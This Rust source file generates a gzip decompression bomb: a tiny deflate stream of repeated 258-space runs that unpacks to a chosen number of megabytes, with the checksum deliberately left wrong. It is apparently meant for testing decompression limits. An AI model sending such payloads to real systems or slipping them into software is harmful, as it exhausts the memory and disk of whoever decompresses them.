//! A gzip file that is much larger unpacked: nothing but spaces.
//!
//! Its checksum is wrong, as nobody should get that far.

/// Of one symbol: 258 spaces in thirteen bits.
const RUN: usize = 258;

/// Spaces, packed.
pub fn bomb(megabytes: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], used: 0, current: 0 };
    // The last block, with Huffman's fixed codes (RFC 1951, 3.2.6).
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    bits.push_code(0x30 + u32::from(b' '), 8);
    for _ in 0..(megabytes << 20) / RUN {
        // The longest run, from one byte before.
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    bits.finish()
}

struct Bits {
    bytes: Vec<u8>,
    used: u32,
    current: u8,
}

impl Bits {
    /// The lowest bit first, as numbers are packed.
    fn push(&mut self, value: u32, count: u32) {
        (0..count).for_each(|at| self.bit(value >> at & 1 == 1));
    }

    /// The highest bit first, as codes are packed.
    fn push_code(&mut self, code: u32, count: u32) {
        (0..count).rev().for_each(|at| self.bit(code >> at & 1 == 1));
    }

    fn bit(&mut self, is_set: bool) {
        self.current |= u8::from(is_set) << self.used;
        self.used += 1;
        if self.used == 8 {
            self.bytes.push(self.current);
            (self.used, self.current) = (0, 0);
        }
    }

    fn finish(mut self) -> Vec<u8> {
        if self.used > 0 {
            self.bytes.push(self.current);
        }
        self.bytes.extend_from_slice(&[0; 8]);
        self.bytes
    }
}
